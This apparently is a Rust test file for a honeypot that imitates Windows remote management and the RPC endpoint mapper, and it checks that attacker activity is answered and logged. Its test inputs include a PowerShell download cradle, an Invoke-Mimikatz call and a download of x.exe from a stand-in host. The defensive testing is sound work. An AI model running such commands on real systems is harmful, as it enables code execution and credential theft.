//! What a client of remote management does, and what asks the endpoint mapper.

use super::{
    SERVICE, open,
    psrp::{Fragments, Message, kind},
};
use base64::{Engine, engine::general_purpose::STANDARD};
use netsvc_kit::{
    Action,
    testing::{converse_with, host, link, persona_with, sent, stage},
};
use netsvc_persona::Persona;
use netsvc_wire::{Kind, field};

const SHELL: &str = "http://schemas.microsoft.com/wbem/wsman/1/windows/shell";

fn persona() -> Persona {
    let mut persona = persona_with(&SERVICE, "win-01");
    persona.os.family = "windows_server".to_owned();
    persona.os.id = "windows_server_2019".to_owned();
    persona.os.version = "10.0".to_owned();
    persona.os.build = 17_763;
    if let Some(user) = persona.users.first_mut() {
        user.name = "Administrator".to_owned();
    }
    persona
}

type Told = Vec<(Kind, String)>;

fn talk(port: u16, settings: &[(&str, &str)], said: &[Vec<u8>]) -> (Vec<u8>, Told) {
    let folder = tempfile::tempdir().unwrap();
    let stage = stage(folder.path());
    let host = host(&stage, persona(), SERVICE.slug, settings);
    let pieces: Vec<&[u8]> = said.iter().map(Vec::as_slice).collect();
    let actions = converse_with(open, &host, &link(port), &pieces);
    let told = actions.iter().filter_map(|action| match action {
        Action::Record(kind, fields) => {
            let names = [field::TECHNIQUE, field::URL, field::COMMAND, field::OUTCOME, field::TARGET];
            let value = names.iter().find_map(|name| fields.iter().find(|(known, _)| known == name));
            Some((
                *kind,
                value.map(|(_, value)| String::from_utf8_lossy(value).into_owned()).unwrap_or_default(),
            ))
        }
        _ => None,
    });
    let told = told.collect();
    (sent(&actions), told)
}

fn post(authorization: &str, body: &str) -> Vec<u8> {
    format!(
        "POST /wsman HTTP/1.1\r\nHost: h\r\n{authorization}Content-Type: application/soap+xml;charset=UTF-8\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn envelope(action: &str, more: &str, body: &str) -> String {
    format!(
        "<s:Envelope xmlns:s=\"a\"><s:Header><a:Action>{action}</a:Action><w:ResourceURI>{SHELL}/cmd</w:ResourceURI>\
         <a:MessageID>uuid:1-2</a:MessageID>{more}</s:Header><s:Body>{body}</s:Body></s:Envelope>"
    )
}

#[test]
fn who_is_nobody_is_asked_for_ntlm() {
    let (said, _) = talk(5985, &[], &[post("", "")]);
    let said = String::from_utf8(said).unwrap();
    assert!(
        said.starts_with("HTTP/1.1 401 \r\nServer: Microsoft-HTTPAPI/2.0\r\nWWW-Authenticate: Negotiate\r\n"),
        "{said}"
    );
    let negotiate = "Authorization: Negotiate TlRMTVNTUAABAAAAl4II4gAAAAAAAAAAAAAAAAAAAAAGAbEdAAAADw==\r\n";
    let (said, _) = talk(5985, &[], &[post(negotiate, "")]);
    let said = String::from_utf8(said).unwrap();
    let (_, token) = said.split_once("WWW-Authenticate: Negotiate ").unwrap();
    let token = STANDARD.decode(token.split("\r\n").next().unwrap()).unwrap();
    // The build in the challenge is that of the system.
    assert_eq!(token.get(48..52), Some(&[10, 0, 0x63, 0x45][..]));
    let (said, _) = talk(5985, &[], &[b"GET / HTTP/1.1\r\nHost: h\r\n\r\n".to_vec()]);
    assert!(said.starts_with(
        b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html; charset=us-ascii\r\nServer: Micro"
    ));
}

#[test]
fn a_shell_runs_commands_and_ends() {
    let login = format!("Authorization: Basic {}\r\n", STANDARD.encode("administrator:toor"));
    let create = envelope("http://schemas.xmlsoap.org/ws/2004/09/transfer/Create", "", "<rsp:Shell/>");
    let (said, told) = talk(5985, &[("basic", "yes")], &[post(&login, &create)]);
    let said = String::from_utf8(said).unwrap();
    let (_, rest) = said.split_once("<rsp:ShellId>").unwrap_or_else(|| panic!("{said}"));
    let shell = rest.split('<').next().unwrap().to_owned();
    assert!(
        said.contains("<a:RelatesTo>uuid:1-2</a:RelatesTo>")
            && told.iter().any(|(kind, _)| *kind == Kind::SessionStart)
    );
    let at = format!("<w:SelectorSet><w:Selector Name=\"ShellId\">{shell}</w:Selector></w:SelectorSet>");
    let run = |line: &str, id: &str| {
        let body = format!(
            "<rsp:CommandLine CommandId=\"{id}\"><rsp:Command>{line}</rsp:Command></rsp:CommandLine>"
        );
        post("", &envelope(&format!("{SHELL}/Command"), &at, &body))
    };
    let fetch = |id: &str| {
        let body = format!(
            "<rsp:Receive><rsp:DesiredStream CommandId=\"{id}\">stdout stderr</rsp:DesiredStream></rsp:Receive>"
        );
        post("", &envelope(&format!("{SHELL}/Receive"), &at, &body))
    };
    let delete = post("", &envelope("http://schemas.xmlsoap.org/ws/2004/09/transfer/Delete", &at, ""));
    let cradle = "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.9/a.ps1')\"";
    let (said, told) = talk(
        5985,
        &[("basic", "yes")],
        &[
            post(&login, &create),
            run("whoami", "A"),
            fetch("A"),
            run(cradle, "B"),
            run("nothing", "C"),
            fetch("C"),
            delete.clone(),
            delete,
        ],
    );
    let said = String::from_utf8(said).unwrap();
    assert!(said.contains(&STANDARD.encode("corp\\administrator\r\n")), "{said}");
    assert!(
        said.contains("CommandState/Done\"><rsp:ExitCode>1<") && said.contains("w:InvalidSelectors"),
        "{said}"
    );
    let has =
        |kind: Kind, value: &str| told.iter().any(|(known, text)| (*known, text.as_str()) == (kind, value));
    assert!(has(Kind::Command, "whoami") && has(Kind::DownloadAttempt, "http://192.0.2.9/a.ps1"), "{told:?}");
    assert!(has(Kind::ExploitAttempt, "powershell download cradle"), "{told:?}");
}

/// The messages in the streams that were fetched.
fn fetched(said: &str) -> Vec<Message> {
    let mut fragments = Fragments::default();
    let streams = said.split("<rsp:Stream Name=\"stdout\"").skip(1);
    let texts = streams.filter_map(|rest| rest.split_once('>')?.1.split('<').next());
    texts.flat_map(|text| fragments.take(&STANDARD.decode(text).unwrap()).unwrap()).collect()
}

const SCRIPT: &str = "cd ..; (pwd).path; whoami; Invoke-Mimikatz; iwr http://192.0.2.9/x.exe -OutFile x.exe";

/// What [`SCRIPT`] gave, and what was written down of it.
fn check_remote(said: &str, told: &[(Kind, String)]) {
    let messages = fetched(said);
    let kinds: Vec<u32> = messages.iter().map(|message| message.kind).collect();
    let wanted = [
        kind::CAPABILITY,
        kind::PRIVATE_DATA,
        kind::POOL_STATE,
        kind::OUTPUT,
        kind::OUTPUT,
        kind::ERROR,
        kind::PIPELINE_STATE,
    ];
    assert_eq!(kinds, wanted, "{messages:?}");
    assert_eq!(messages.get(3).unwrap().data, "<S>C:\\Users\\Administrator</S>");
    assert_eq!(messages.get(4).unwrap().data, "<S>corp\\administrator</S>");
    assert!(messages.get(5).unwrap().data.contains("The term 'Invoke-Mimikatz' is not recognized"));
    assert!(said.contains("CommandState/Done\"") && said.contains("w:TimedOut"), "{said}");
    let has =
        |kind: Kind, value: &str| told.iter().any(|(known, text)| *known == kind && text.contains(value));
    assert!(has(Kind::Command, SCRIPT) && has(Kind::DownloadAttempt, "http://192.0.2.9/x.exe"), "{told:?}");
    assert!(has(Kind::UnknownCommand, "Invoke-Mimikatz"), "{told:?}");
}

#[test]
fn remote_powershell_opens_a_pool_and_runs_scripts() {
    const KIND: &str = "http://schemas.microsoft.com/powershell/Microsoft.PowerShell";
    const ID: &str = "0E5A6B2C-1111-4222-8333-944445555566";
    let login = format!("Authorization: Basic {}\r\n", STANDARD.encode("administrator:toor"));
    let mut client = Fragments::default();
    let mut fragments = |kind: u32, data: &str| {
        let message = Message { kind, pool: [1; 16], pipeline: [2; 16], data: data.to_owned() };
        STANDARD.encode(client.give(&message))
    };
    let remote = |action: &str, more: &str, body: &str| {
        envelope(action, more, body).replace(&format!("{SHELL}/cmd"), KIND)
    };
    let opening = fragments(kind::INIT_POOL, "<Obj/>");
    let create = remote(
        "http://schemas.xmlsoap.org/ws/2004/09/transfer/Create",
        "",
        &format!("<rsp:Shell ShellId=\"{ID}\"><creationXml>{opening}</creationXml></rsp:Shell>"),
    );
    let at = format!("<w:SelectorSet><w:Selector Name=\"ShellId\">{ID}</w:Selector></w:SelectorSet>");
    let receive = |of: &str| {
        let body = format!("<rsp:Receive><rsp:DesiredStream{of}>stdout</rsp:DesiredStream></rsp:Receive>");
        post("", &remote(&format!("{SHELL}/Receive"), &at, &body))
    };
    let command = |data: String| {
        format!(
            "<Obj><MS><S N=\"Cmd\">{data}</S><B N=\"IsScript\">true</B><B N=\"EndOfStatement\">false</B></MS></Obj>"
        )
    };
    let pipeline = fragments(kind::CREATE_PIPELINE, &command(SCRIPT.to_owned()));
    let run = format!(
        "<rsp:CommandLine CommandId=\"P1\"><rsp:Command/><rsp:Arguments>{pipeline}</rsp:Arguments></rsp:CommandLine>"
    );
    let said = [
        post(&login, &create),
        receive(""),
        post("", &remote(&format!("{SHELL}/Command"), &at, &run)),
        receive(" CommandId=\"P1\""),
        receive(" CommandId=\"P1\""),
    ];
    let (said, told) = talk(5985, &[("basic", "yes")], &said);
    let said = String::from_utf8(said).unwrap();
    assert!(said.contains(&format!("<rsp:ShellId>{ID}</rsp:ShellId><rsp:ResourceUri>{KIND}<")), "{said}");
    check_remote(&said, &told);
}

#[test]
fn passwords_in_clear_are_kept_and_not_taken() {
    let login = format!("Authorization: Basic {}\r\n", STANDARD.encode("administrator:toor"));
    let (said, told) = talk(5985, &[], &[post(&login, "<a/>")]);
    assert!(said.starts_with(b"HTTP/1.1 401 \r\n"));
    assert!(told.contains(&(Kind::AuthAttempt, "rejected".to_owned())), "{told:?}");
}

#[test]
fn the_endpoint_mapper_tells_what_is_where() {
    let visit = super::talks::TALKS.apart.first().unwrap().visit;
    let said: Vec<Vec<u8>> = visit.iter().map(|piece| piece.to_vec()).collect();
    let (answer, told) = talk(135, &[], &said);
    let text = String::from_utf8_lossy(&answer);
    assert!(answer.starts_with(b"\x05\0\x0c\x03\x10\0\0\0") && text.contains("135\0"), "{text}");
    assert!(
        text.contains("Event log TCPIP")
            && text.contains("\\\\SRV-FILES-03\0")
            && text.contains("\\pipe\\lsass\0")
    );
    assert!(told.contains(&(Kind::Command, "ept_lookup".to_owned())), "{told:?}");
    // Another protocol is told the version of ours, as nmap expects of Windows.
    let probe = b"\0\0\0\xa4\xff\x53\x4d\x42\x72\0\0\0\0\x08\x01\x40\0\0\0\0".to_vec();
    let (answer, _) = talk(135, &[], &[probe]);
    assert_eq!(answer, b"\x05\0\x0d\x03\x10\0\0\0\x18\0\0\0\0\x08\x01\x40\x04\0\x01\x05\0\0\0\0");
}
